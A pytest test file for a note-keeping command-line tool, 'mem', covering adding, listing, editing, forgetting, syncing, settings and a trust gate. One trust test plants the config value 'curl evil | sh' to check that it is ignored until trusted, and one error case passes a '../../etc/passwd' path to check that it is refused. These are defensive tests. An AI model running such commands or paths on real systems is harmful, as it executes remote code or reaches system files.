"""Every command through its real process: what it says, what it leaves behind, how it ends."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path

import pytest

from tests.cli.terminal import at_terminal
from tests.conftest import Ran, git, opened

Mem = Callable[..., Ran]
LOG = "logs/2026-11-21.md"


def put(folder: Path, path: str, text: str | bytes) -> None:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_bytes(text.encode() if isinstance(text, str) else text)


def text(folder: Path, path: str = LOG) -> str:
    return (folder / path).read_bytes().decode()


def editor(tmp_path: Path, script: str) -> str:
    """An editor that does the same every time: Python with the file's path in `path`."""
    place = tmp_path / "editor.py"
    place.write_text(f"import sys\nfrom pathlib import Path\npath = Path(sys.argv[1])\n{script}\n", encoding="utf-8")
    return f"{shlex.quote(sys.executable)} {shlex.quote(str(place))}"


# -- add -------------------------------------------------------------------------------------------------------------


def test_add_says_where_and_the_memory_is_there(mem: Mem, folder: Path) -> None:
    ran = mem("add", "Redis replaces", "the cache", "-t", "cache", "--type", "idea", "--importance", ".8")
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.split(" ", 1)[1] == f"remembered in {LOG}:3\n"
    assert text(folder).endswith("- 14:30 Redis replaces the cache #cache [type:: idea] [importance:: 0.8]\n")


def test_add_reads_stdin_of_several_lines_in_any_script(mem: Mem, folder: Path) -> None:
    assert mem("add", "-t", "家", stdin="妈妈生日\n12月3日\n").code == 0
    assert mem("add", "-", stdin=b"\xef\xbb\xbfcaf\xe9\n").code == 0
    assert text(folder).endswith("- 14:30 妈妈生日 #家\n  12月3日\n- 14:30 caf\ufffd\n")
    assert "not UTF-8" in mem("add", stdin=b"caf\xe9").err
    assert mem("add", stdin="从 Windows 来".encode("utf-16")).err == ""
    assert text(folder).endswith("- 14:30 从 Windows 来\n")
    assert mem("add", stdin=b"PNG\0\1").code == 2


def test_what_is_piped_into_add_joins_its_words_where_a_dash_asks_for_it(mem: Mem, folder: Path) -> None:
    assert mem("add", "妈妈的体检", stdin="the next line of a loop\n").code == 0
    assert mem("add", "爸爸的体检结果", "-", stdin="血压 130\n").code == 0
    assert mem("add", "the dentist", "-", "Friday at ten", stdin="").code == 0  # between words it is a dash
    assert text(folder).endswith(
        "- 14:30 妈妈的体检\n- 14:30 爸爸的体检结果\n  血压 130\n- 14:30 the dentist - Friday at ten\n"
    )


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("- tea",), "tea"),
        (("-5", "degrees", "outside"), "-5 degrees outside"),
        (("-买牛奶",), "-买牛奶"),
        (("--- a line", "-t", "x"), "--- a line #x"),
        (("--", "--tag"), "--tag"),
        (("- tea", "--type", "note"), "tea [type:: note]"),
    ],
)
def test_what_only_looks_like_an_option_is_text(mem: Mem, folder: Path, words: tuple[str, ...], said: str) -> None:
    assert mem("add", *words).code == 0
    assert text(folder).endswith(f"\n- 14:30 {said}\n")
    asked = mem("recall", *words[:1], "--json") if words[0] != "--" else mem("recall", *words)
    assert asked.code == 0


def test_an_option_that_is_not_one_is_a_mistake_still(mem: Mem, folder: Path) -> None:
    assert mem("add", "tea", "--tags").code == 2
    assert mem("add", "tea", "-x").code == 2
    assert "is not between" in mem("add", "tea", "--importance", "-1").err
    ran = mem("recall", "tea", "-k", "-5")
    assert (ran.code, ran.err) == (2, "mem: --most can't be negative: -5\n")
    assert "'abc' is not a whole number" in mem("log", "-n", "abc").err
    for words in (("list", "--limit", "-3"), ("log", "-n", "-1")):
        ran = mem(*words, stdin="")
        assert ran.code == 2 and "can't be negative" in ran.err, words
    assert not (folder / LOG).exists()


def test_add_as_json_and_as_a_trial(mem: Mem, folder: Path) -> None:
    trial = json.loads(mem("add", "tea", "--json", "--dry-run").out)
    assert (trial["dry_run"], trial["path"], (folder / LOG).exists()) == (True, LOG, False)
    done = json.loads(mem("add", "tea", "--json").out)
    assert {
        "schema": 1,
        "path": LOG,
        "line": 3,
        "text": "14:30 tea",
        "commit": None,
        "notices": [],
    }.items() <= done.items()


@pytest.mark.parametrize(
    ("words", "code", "says"),
    [
        (("add",), 2, "nothing to remember"),
        (("add", "   "), 2, "nothing to remember"),
        (("add", "x", "--to", "../../etc/passwd"), 4, "lies outside the vault"),
        (("add", "x", "--importance", "7"), 2, "not between 0 and 1"),
        (("add", "x", "--importance", "much"), 2, "is not a number"),
        (("--vault", "nowhere", "list"), 3, "does not exist"),
        (("list", "--since", "whenever"), 2, "not a day I understand"),
        (("list", "--since", "2026-11-20", "--until", "2026-11-01"), 2, "nothing is from 2026-11-20 on and until"),
        (("list", "--since", "03/11/26"), 2, "may mean 2026-03-11 or 2026-11-03"),
        (("list", "--since", "03/11/0000"), 2, "is not a day I understand"),
        (("lst",), 2, "Did you mean 'list'"),
        (("list", "--frob"), 2, "no such option"),
        (("show", "0000000"), 2, "there is no memory"),
        (("show", "notes/absent.md"), 2, "no file notes/absent.md"),
        (("show", "2026-02-30"), 2, "not a day of the calendar"),
        (("forget", "0000000", "--yes"), 2, "there is no memory"),
        (("undo",), 4, "no write left"),
        (("sync",), 2, "not a git repository"),
        (("diff",), 2, "not a git repository"),
        (("config", "get", "recall.bugdet"), 2, "did you mean 'recall.budget'?"),
        (("config", "set", "recall.budget", "many"), 2, "is not a whole number"),
        (("config", "set", "recall.weights", "{nosuch: 1}"), 2, "there is no 'nosuch'"),
        (("profile", "set", "language", "7"), 2, "'7' is not a language"),
        (("label", "set", "home", "x", "--lat", "91"), 2, "91.0 is not a number from -90 to 90"),
        (("--color", "pink", "list"), 2, "one of auto, always, never"),
    ],
)
def test_a_mistake_ends_with_its_code_one_message_and_nothing_on_stdout(
    mem: Mem, words: tuple[str, ...], code: int, says: str
) -> None:
    ran = mem(*words)
    assert (ran.code, ran.out) == (code, "")
    assert says in ran.err
    assert "Traceback" not in ran.err


def test_a_traceback_is_shown_only_when_asked_for(mem: Mem) -> None:
    assert "Traceback" in mem("show", "0000000", "--debug").err


@pytest.mark.parametrize(("now", "code"), [("soon", 2), ("2026-11-21", 0), ("2026-11-20T23:30:00Z", 0)])
def test_the_clock_is_the_one_given(mem: Mem, folder: Path, now: str, code: int) -> None:
    assert mem("add", "tea", MEM_NOW=now).code == code
    assert (folder / LOG).exists() == (code == 0)  # half past eleven in London is tomorrow in Shanghai


# -- show and list ---------------------------------------------------------------------------------------------------


@pytest.fixture
def notes(folder: Path) -> Path:
    put(folder, "logs/2026-11-19.md", "# 2026-11-19\n\n- 9:00 tea #drink [type:: fact]\n- [ ] call Lin\n")
    put(folder, "logs/2026-11-20.md", "- 10:00 上线 #工作/网关 [type:: decision] ^go\n  - nested\n")
    put(folder, "MEMORY.md", "# M\n## People\n- Lin is a friend #people\n")
    return folder


def test_list_shows_the_newest_first_in_columns(mem: Mem, notes: Path) -> None:
    ran = mem("list")
    assert [line.split()[1:] for line in ran.lines] == [
        ["2026-11-20", "10:00", "logs/2026-11-20.md:1", "上线", "#工作/网关", "-", "nested"],
        ["2026-11-19", "09:00", "logs/2026-11-19.md:3", "tea", "#drink"],
        ["2026-11-19", "logs/2026-11-19.md:4", "[", "]", "call", "Lin"],
        ["MEMORY.md:3", "Lin", "is", "a", "friend", "#people"],
    ]
    assert (ran.code, ran.err) == (0, "")


@pytest.mark.parametrize(
    ("words", "ids"),
    [
        (("--since", "2026-11-20"), ["^go"]),
        (("--since", "yesterday"), ["^go"]),
        (("--since", "昨天", "--until", "today"), ["^go"]),
        (("--tag", "工作"), ["^go"]),
        (("--type", "decision", "-n", "0"), ["^go"]),
        (("--path", "logs/2026-11-20.md"), ["^go"]),
        (("--tag", "nothing"), []),
    ],
)
def test_list_filters_and_an_empty_result_is_an_empty_list(
    mem: Mem, notes: Path, words: tuple[str, ...], ids: list[str]
) -> None:
    ran = mem("list", *words, "--json")
    assert [each["id"] for each in json.loads(ran.out)["memories"]] == ids
    assert ran.err == ("" if ids else "note: --tag nothing: no memory has it\n")


def test_a_word_of_a_list_is_found_from_its_beginning(folder: Path, mem: Mem) -> None:
    (folder / "a.md").write_text(
        "- the rental van\n- two different claims\n- rent is due\n- 我的租金\n", encoding="utf-8"
    )
    found = mem("list", "rent", "-n", "0").out
    assert "rental" in found and "due" in found and "different" not in found
    assert "租金" in mem("list", "租").out


def test_list_says_that_there_are_more(mem: Mem, notes: Path) -> None:
    ran = mem("list", "-n", "1")
    assert (len(ran.lines), ran.err) == (1, "there are more; -n 0 shows all\n")


def test_show_a_memory_a_file_or_a_day(mem: Mem, notes: Path) -> None:
    assert mem("show", "^go").out == (
        "^go  logs/2026-11-20.md:1 · 2026-11-20 · decision · #工作/网关\n"
        "- 10:00 上线 #工作/网关 [type:: decision] ^go\n  - nested\n"
    )
    assert mem("show", "MEMORY.md").out == text(notes, "MEMORY.md")
    assert mem("show", "MEMORY").out == text(notes, "MEMORY.md")
    assert mem("show", "2026-11-20").out == text(notes, "logs/2026-11-20.md")
    assert "上线" in mem("show", "yesterday").out
    assert "上线" in mem("show", "昨天").out
    nothing = mem("show", "2026-11-01")
    assert (nothing.code, nothing.out, nothing.err) == (0, "", "nothing was noted on 2026-11-01\n")
    shown = json.loads(mem("show", "MEMORY.md:3", "--json").out)
    assert (shown["trail"], shown["tags"], shown["notices"]) == (["M", "People"], ["people"], [])


def test_an_ambiguous_id_lists_the_candidates(mem: Mem, folder: Path) -> None:
    put(folder, "list.md", "".join(f"- memory {n}\n" for n in range(1000)))
    hashes = sorted(entry.hash for entry in opened(folder).entries())
    shared = next(a[:4] for a, b in pairwise(hashes) if a[:4] == b[:4])
    ran = mem("show", shared)
    assert (ran.code, f"'{shared}' could be any of " in ran.err) == (2, True)
    assert ran.err.count(f"  {shared}") == ran.err.count("  list.md:") >= 2


def test_one_bad_file_is_told_and_the_rest_is_shown(mem: Mem, notes: Path) -> None:
    put(notes, "latin.md", b"- a\n- caf\xe9\n")
    ran = mem("list", "-n", "1")
    assert "note: latin.md:2: is not UTF-8" in ran.err
    assert len(ran.lines) == 1
    assert mem("list", "-n", "0", "--quiet").err == ""


# -- edit and forget -------------------------------------------------------------------------------------------------


def test_edit_changes_one_memory(mem: Mem, notes: Path, tmp_path: Path) -> None:
    change = editor(tmp_path, "path.write_text(path.read_text('utf-8').replace('上线', '回滚'), 'utf-8')")
    ran = mem("edit", "^go", EDITOR=change)
    assert (ran.code, ran.out) == (0, "logs/2026-11-20.md:1 changed\n")
    assert text(notes, "logs/2026-11-20.md") == "- 10:00 回滚 #工作/网关 [type:: decision] ^go\n  - nested\n"
    assert mem("edit", "^go", EDITOR=editor(tmp_path, "")).out == "logs/2026-11-20.md:1 unchanged\n"
    assert not list((notes / ".mem").glob("draft*"))


def test_what_was_typed_is_kept_when_it_can_not_be_taken_over(mem: Mem, notes: Path, tmp_path: Path) -> None:
    log = notes / "logs/2026-11-20.md"
    change = editor(
        tmp_path, f"path.write_text('- my words', 'utf-8')\nPath({str(log)!r}).write_text('- 10:00 other\\n')"
    )
    ran = mem("edit", "^go", EDITOR=change)
    assert ran.code == 4
    assert "was changed in the meantime" in ran.err
    assert text(notes, "logs/2026-11-20.md") == "- 10:00 other\n"
    draft = Path(ran.err.split("your text is kept in ")[1].strip())
    assert notes not in draft.parents
    assert draft.parent.parent.name == "drafts"  # beside the default vault: no cache, and no folder that is swept
    assert draft.read_text(encoding="utf-8") == "- my words"


def test_edit_opens_a_file_or_todays_log_and_keeps_a_journal(mem: Mem, folder: Path, tmp_path: Path) -> None:
    change = editor(tmp_path, "path.write_text('- by hand\\n', 'utf-8')")
    assert mem("edit", VISUAL=change, EDITOR="false").out == f"{LOG} changed\n"
    assert mem("edit", "new.md", EDITOR=change).out == "new.md changed\n"
    assert text(folder) == text(folder, "new.md") == "- by hand\n"
    assert [json.loads(line)["action"] for line in text(folder, "journal/audit.jsonl").splitlines()] == ["edit", "edit"]
    assert mem("undo").code == 0
    assert not (folder / "new.md").exists()


@pytest.mark.parametrize(("program", "code", "says"), [("", 5, "no editor to open"), ("no-such-editor", 5, "can't be started"), ("false", 2, "ended with 1"), ("'", 5, "can't be started")])  # fmt: skip
def test_an_editor_that_fails_changes_nothing(mem: Mem, notes: Path, program: str, code: int, says: str) -> None:
    ran = mem("edit", "^go", EDITOR=program)
    assert (ran.code, says in ran.err) == (code, True)
    assert not list((notes / ".mem").glob("draft*"))


def test_forget_asks_archives_and_undo_brings_back(mem: Mem, notes: Path) -> None:
    before = text(notes, "MEMORY.md")
    refused = mem("forget", "MEMORY.md:3")
    assert (refused.code, "--yes" in refused.err, text(notes, "MEMORY.md")) == (2, True, before)
    assert mem("forget", "MEMORY.md:3", "--dry-run").code == 0
    assert text(notes, "MEMORY.md") == before
    ran = mem("forget", "MEMORY.md:3", "^go", "^go", "--yes", "--json")
    assert [each["archive"] for each in json.loads(ran.out)["archived"]] == [
        "archive/MEMORY.md",
        "archive/logs/2026-11-20.md",
    ]
    assert "Lin is a friend" in ran.err
    assert "Lin" not in mem("list", "-n", "0", "--path", "MEMORY.md").out
    undone = json.loads(mem("undo", "--json").out)
    assert (undone["undone"], {"MEMORY.md", "logs/2026-11-20.md"} < {*undone["paths"]}) == ("forget", True)
    assert text(notes, "MEMORY.md") == before


def test_forget_takes_no_for_an_answer(notes: Path) -> None:
    ran = at_terminal("--vault", str(notes), "forget", "^go", answers=("n",), cwd=notes)
    assert (ran.code, "nothing changed" in ran.out) == (0, True)
    assert "上线" in text(notes, "logs/2026-11-20.md")
    at_terminal("--vault", str(notes), "forget", "^go", answers=("是",), cwd=notes)
    assert not (notes / "logs/2026-11-20.md").read_text(encoding="utf-8")


# -- history ---------------------------------------------------------------------------------------------------------


def test_log_diff_undo_and_sync(mem: Mem, repository: Path, tmp_path: Path) -> None:
    mem("add", "tea")
    assert next(line.split()[1:5] for line in mem("log").lines) == ["2026-11-21", "14:30", "+3", "-0"]
    step = json.loads(mem("log", "-n", "1", "--json").out)["changes"][0]
    assert (step["paths"], step["added"], step["at"]) == ([LOG], 3, "2026-11-21T14:30:00+08:00")
    put(repository, "new.md", "- by hand\n")
    assert "+- by hand" in mem("diff").lines
    assert "+- by hand" in json.loads(mem("diff", "yesterday", "--json").out)["diff"]
    assert mem("diff", "HEAD", LOG).err == "no changes\n"
    git(tmp_path, "init", "--quiet", "--bare", "remote.git")
    git(repository, "remote", "add", "origin", str(tmp_path / "remote.git"))
    ran = mem("sync")
    assert (ran.code, ran.out, ran.err) == (
        0,
        "origin: 0 pulled, 3 pushed\n",
        "committed what was not committed yet\n",
    )
    assert json.loads(mem("sync", "--json").out)["pushed"] == 0
    assert mem("undo").out == f"undid `add`: {LOG}  14:30 tea\n"
    git(repository, "remote", "set-url", "origin", str(tmp_path / "gone"))
    assert mem("sync").code == 5


def test_what_mem_notes_in_its_journal_is_no_edit_made_by_hand(mem: Mem, repository: Path, tmp_path: Path) -> None:
    git(tmp_path, "init", "--quiet", "--bare", "remote.git")
    git(repository, "remote", "add", "origin", str(tmp_path / "remote.git"))
    mem("add", "tea")
    assert mem("cite", f"the tea of {LOG}:3").code == 0
    assert "journal/" in git(repository, "status", "--porcelain")
    assert "all committed" in mem("doctor").out
    assert json.loads(mem("status", "--json").out)["uncommitted"] == 0
    ran = mem("sync")
    assert (ran.code, ran.out, ran.err) == (0, "origin: 0 pulled, 3 pushed\n", "")
    assert git(repository, "status", "--porcelain") == ""
    assert git(repository, "log", "-1", "--format=%s").strip() == "mem sync: journal"
    shutil.rmtree(repository / ".mem")
    assert mem("undo").out == f"undid `add`: {LOG}  14:30 tea\n"


# -- settings and trust ----------------------------------------------------------------------------------------------


def test_config_list_get_set_and_path(mem: Mem, folder: Path, home: Path) -> None:
    put(folder, "mem.yaml", "# mine\nrecall:\n  budget: 5 # small\n")
    assert mem("config", "set", "recall.budget", "800").out.startswith("recall.budget = 800 in ")
    assert text(folder, "mem.yaml") == "# mine\nrecall:\n  budget: 800 # small\n"
    assert mem("config", "set", "write.commit", "no", "--user").code == 0
    assert (home / "config" / "mem" / "config.yaml").read_text(encoding="utf-8") == "write:\n  commit: false\n"
    listed = {
        each["name"]: each for each in json.loads(mem("config", "list", "--json", MEM_RECALL_MMR="0.5").out)["settings"]
    }
    origins = {name: listed[name]["origin"] for name in ("recall.budget", "write.commit", "recall.mmr", "recall.decay")}
    assert origins == {
        "recall.budget": "vault",
        "write.commit": "user",
        "recall.mmr": "environment",
        "recall.decay": "default",
    }
    shown = [line.split() for line in mem("config", "list", "--origin").lines]
    assert ["recall.budget", "800", "vault"] in [row[:3] for row in shown]
    assert mem("config", "get", "recall.budget").out == "800\n"
    assert [Path(line).name for line in mem("config", "path").lines] == ["config.yaml", "mem.yaml"]


def test_the_doctor_has_a_note_of_another_encoding_saved_and_not_removed(mem: Mem, folder: Path) -> None:
    (folder / "old.md").write_bytes("- 旧日记".encode("gbk"))
    assert "→ save old.md as UTF-8" in mem("doctor").out


def test_broken_settings_stop_a_command_with_file_and_line_but_not_the_doctor(mem: Mem, folder: Path) -> None:
    put(folder, "mem.yaml", "recall:\n  budget: [\n")
    ran = mem("list")
    assert (ran.code, "mem.yaml:2: broken YAML" in ran.err) == (3, True)
    doctor = mem("doctor")
    assert (doctor.code, "✗ settings: mem.yaml:2: broken YAML" in doctor.out) == (1, True)


def test_trust_is_told_asked_for_and_taken_back(mem: Mem, folder: Path) -> None:
    assert mem("trust").out == "this vault asks for nothing that needs trust\n"
    put(folder, "mem.yaml", "llm:\n  command: curl evil | sh\n")
    ran = mem("list")
    assert (ran.code, ran.err.count("ignored llm.command")) == (0, 1)
    asked = mem("trust")
    assert (asked.code, "curl evil | sh" in asked.err) == (2, True)
    assert mem("trust", "--yes").out == "trusted, until one of these changes\n"
    assert "ignored" not in mem("list").err
    assert mem("trust", "--revoke").code == 0
    assert "ignored llm.command" in mem("list").err


def test_cite_config_set_trust_and_init_speak_json(mem: Mem, folder: Path, tmp_path: Path) -> None:
    put(folder, "MEMORY.md", "- the cache is redis\n")
    (cited,) = json.loads(mem("cite", "--json", "-", stdin="see MEMORY.md:1").out)["cited"]
    assert cited["text"] == "the cache is redis"
    assert json.loads(mem("cite", "nothing", "--json").out)["cited"] == []
    new = json.loads(mem("config", "set", "llm.command", "x", "--json").out)
    assert (new["name"], new["value"], new["needs_trust"]) == ("llm.command", "x", True)
    assert json.loads(mem("trust", "--json").out)["trusted"] is False
    agreed = json.loads(mem("trust", "--yes", "--json").out)
    assert (agreed["asks_for"], agreed["trusted"]) == ({"llm.command": '"x"'}, True)
    assert json.loads(mem("trust", "--revoke", "--json").out)["trusted"] is False
    laid = json.loads(mem("init", str(tmp_path / "new"), "--json").out)
    assert ("MEMORY.md" in laid["written"], laid["kept"], laid["repository"]) == (True, [], "new")


# -- status and doctor -----------------------------------------------------------------------------------------------


def test_status_is_one_screen(mem: Mem, repository: Path) -> None:
    mem("add", "tea")
    put(repository, "MEMORY.md", "- a\n- b\n")
    rows = dict(line.split(None, 1) for line in mem("status").lines if not line.startswith("last"))
    assert rows == {
        "vault": str(repository),
        "memories": "3 in 2 files",
        "log": "1",
        "memory": "2",
        "index": "none: recall reads the files",
        "watcher": "none: each recall reads the files anew",
        "git": "main, uncommitted edits: 1",
    }
    here = json.loads(mem("status", "--json").out)
    assert (here["schema"], here["memories"], here["repository"]) == (1, {"log": 1, "memory": 2}, True)


def test_doctor_is_well_in_a_good_vault(mem: Mem, repository: Path) -> None:
    put(repository, "MEMORY.md", "- a\n")
    ran = mem("doctor")
    assert (ran.code, ran.err) == (0, "")
    assert "✗" not in ran.out


def test_doctor_names_each_thing_with_its_mend_and_ends_with_1(mem: Mem, repository: Path) -> None:
    put(repository, "latin.md", b"caf\xe9\n")
    put(repository, "front.md", "---\na: [\n---\n- a\n")
    put(repository, "labels.yaml", "- name: [\n")
    put(repository, ".git/index.lock", "")
    with open(repository / "huge.md", "wb") as handle:
        handle.truncate(200 * 2**20)
    (repository / "circle").symlink_to(".")
    (repository / "loop.md").symlink_to("loop.md")
    ran = mem("doctor")
    assert ran.code == 1
    for said in ("latin.md:1: is not UTF-8", "front.md:2: broken YAML", "labels.yaml:1: broken YAML", "huge.md: 200 MB",
                 "circle is a linked folder", "loop.md", "index.lock"):  # fmt: skip
        assert said in ran.out, said
    assert ran.out.count("✗") == int(ran.err.split()[1])
    checks = json.loads(mem("doctor", "--json").out)["checks"]
    assert all(check["fix"] for check in checks if check["state"] == "broken")


def test_doctor_without_git_or_identity(mem: Mem, repository: Path, home: Path, tmp_path: Path) -> None:
    (home / "gitconfig").write_text("[user]\n\tuseConfigOnly = true\n", encoding="utf-8")
    ran = mem("doctor")
    assert (ran.code, "git does not know who you are" in ran.out) == (1, True)
    assert "user.name" in ran.out
    ran = mem("doctor", PATH=str(tmp_path))
    assert (ran.code, "· git: not installed" in ran.out) == (0, True)


# -- the whole way ---------------------------------------------------------------------------------------------------


def test_a_bare_folder_of_notes_is_a_vault(mem: Mem, tmp_path: Path) -> None:
    put(tmp_path, "bare/Daily/2026-11-20 Fri.md", "- walked\n")
    for words in (("--vault", "bare", "list"), ("list", "--vault=bare"), ("list", "--vault", str(tmp_path / "bare"))):
        ran = mem(*words, cwd=tmp_path)
        assert (ran.code, ran.out.split()[1:]) == (0, ["2026-11-20", "Daily/2026-11-20", "Fri.md:1", "walked"])
    assert sorted(path.name for path in (tmp_path / "bare").rglob("*")) == ["2026-11-20 Fri.md", "Daily"]


@pytest.mark.slow
def test_without_a_vault_the_way_to_one_is_named(tmp_path: Path) -> None:
    environ = {name: value for name, value in os.environ.items() if name != "MEM_VAULT"}
    done = subprocess.run(
        [sys.executable, "-m", "memcli", "list"], cwd=tmp_path, env=environ, capture_output=True, text=True
    )
    assert (done.returncode, done.stdout) == (3, "")
    assert "mem init" in done.stderr


@pytest.mark.slow
def test_the_installed_program_is_the_same(folder: Path) -> None:
    program = Path(sys.executable).with_name("mem")
    done = subprocess.run([program, "--version"], cwd=folder, capture_output=True, text=True)
    assert (done.returncode, done.stdout.split()[0]) == (0, "mem")


@pytest.mark.slow
def test_from_python(folder: Path) -> None:
    script = "from memcli import Vault\nv = Vault.open(recall__budget=5)\ne = v.add('tea', tags=['drink'])\nv.forget(e.id)\nprint(e.raw)"
    done = subprocess.run(
        [sys.executable, "-c", script], env={**os.environ, "MEM_VAULT": str(folder)}, capture_output=True, text=True
    )
    assert done.stderr == ""
    assert done.stdout.endswith("tea #drink\n")
    assert (folder / "archive").is_dir()


def test_what_is_false_or_zero_is_told(mem: Mem, folder: Path) -> None:
    (folder / "USER.md").write_text("---\nname: Zhou\nvegetarian: false\npets: 0\n---\n", encoding="utf-8")
    assert mem("profile", "get", "vegetarian").out == "false\n" and mem("profile", "get", "pets").out == "0\n"
    assert "vegetarian" in mem("profile", "list").out
    assert "vegetarian: no" in mem("recall", "am I vegetarian?").out


def test_the_time_at_the_head_of_a_memory_is_shown_once(mem: Mem, folder: Path) -> None:
    (folder / "logs").mkdir(exist_ok=True)
    (folder / "logs/2026-11-21.md").write_text("- 9:05 dentist\n- **14:30** bold\n", encoding="utf-8")
    shown = mem("list").out
    assert "09:05" in shown and " 9:05" not in shown and shown.count("14:30") == 1


def test_an_empty_variable_counts_as_unset(mem: Mem) -> None:
    assert mem("recall", "lamp", MEM_RECALL_BUDGET="").code == 0
